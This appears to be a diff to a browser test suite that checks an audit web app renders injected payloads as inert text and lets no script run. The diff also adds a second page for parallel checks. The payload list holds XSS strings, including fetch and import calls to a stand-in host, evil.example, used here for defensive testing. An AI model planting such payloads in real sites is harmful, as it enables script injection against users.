@@ -1,6 +1,6 @@
 // Active content in every place that people can write to: names, titles, notes, file names, whole files, EXIF. None may run,
 // none may become an element, none may reach out.
-import { AUDIT, CASE, cli, cliInput, go, ok, same, settled } from "./kit.mjs";
+import { AUDIT, CASE, cli, cliInput, go, ok, same, settled, watched } from "./kit.mjs";
 
 const DO = ["pwned=1", "top.pwned=1", "alert(1)", "fetch('http://evil.example/x')", "import('http://evil.example/x.js')"];
 const MARKUP = DO.flatMap((js) => [
@@ -50,7 +50,10 @@ function files() {
 }
 
 export async function payloads(page, server, step) {
-  const made = [], sent = files();
+  const made = [], sent = files(), beside = await watched(page.context(), server.origin), signs = () => [...page.signs, ...beside.signs].join("; ");
+  await beside.goto(server.origin + "/");
+  // Each of them is opened, in two pages at once.
+  const each = (ids, look) => Promise.all([page, beside].map(async (p, half) => { for (const id of ids.filter((_, i) => i % 2 === half)) await look(p, id); }));
   same("at least 200 payloads", true, MARKUP.length + sent.length >= 200);
   await step("the watch itself sees what it must", async () => {
     await page.evaluate(() => { window.pwned = 2; const i = new Image(); i.src = "http://evil.example/x.png"; const s = document.createElement("script"); try { s.textContent = "pwned=3"; } catch { /* Trusted Types */ } document.body.append(s); s.remove(); });
@@ -67,14 +70,14 @@ export async function payloads(page, server, step) {
   await step("texts are taken in", async () => { made.push(...cliInput("zhang", lines.map((l) => JSON.stringify(l)).join("\n"), "apply", "-")); });
   const findings = made.filter((id) => id.startsWith("finding/"));
   await step("texts are only text", async () => {
-    for (const to of ["/", "/findings", "/audits", `/${AUDIT}`, `/${AUDIT}?cell=A1+D3`, `/${AUDIT}/findings`, `/${AUDIT}/check`, "/search?q=pwned", `/case/${CASE}`]) { await go(page, to); await page.waitForTimeout(80); }
-    for (const id of findings) {
-      await go(page, "/" + id);
-      const shown = await page.locator("[data-field=fact] textarea").inputValue();
+    for (const to of ["/", "/findings", "/audits", `/${AUDIT}`, `/${AUDIT}?cell=A1+D3`, `/${AUDIT}/findings`, `/${AUDIT}/check`, "/search?q=pwned", `/case/${CASE}`]) await go(page, to);
+    await each(findings, async (p, id) => {
+      await go(p, "/" + id);
+      const shown = await p.locator("[data-field=fact] textarea").inputValue();
       if (!shown.length) ok("a payload is shown as it is", false, id);
-    }
-    for (const id of made.filter((m) => m.startsWith("sample/")).slice(0, 40)) await go(page, "/record/" + id);
-    same("no script ran, no request went out", "", page.signs.join("; "));
+    });
+    await each(made.filter((m) => m.startsWith("sample/")).slice(0, 40), (p, id) => go(p, "/record/" + id));
+    same("no script ran, no request went out", "", signs());
   });
   // ---- files: taken in through the page, looked at one by one ----
   await step("files are only bytes", async () => {
@@ -84,14 +87,14 @@ export async function payloads(page, server, step) {
     await page.waitForFunction((n) => document.querySelectorAll("main .strip .tiles figure").length >= n, sent.length, { timeout: 60000 });
     const own = cli("zhang", "list", "evidence", "of+=" + findings[0]);
     same("all are stored", sent.length, own.length);
-    for (const e of own) {
-      await go(page, "/" + e.id);
-      await page.waitForSelector(".preview > *");
-    }
+    await each(own, async (p, e) => {
+      await go(p, "/" + e.id);
+      await p.waitForSelector(".preview > *");
+    });
     await go(page, "/evidence");
     await page.waitForTimeout(500);
     await settled(page);
-    same("no script ran, no request went out", "", page.signs.join("; "));
+    same("no script ran, no request went out", "", signs());
     for (const e of own) {
       const r = await page.request.get(server.origin + "/api/evidence/" + e.fields.sha256, { headers: { "Sec-Fetch-Site": "same-origin" } });
       const is = r.headers();
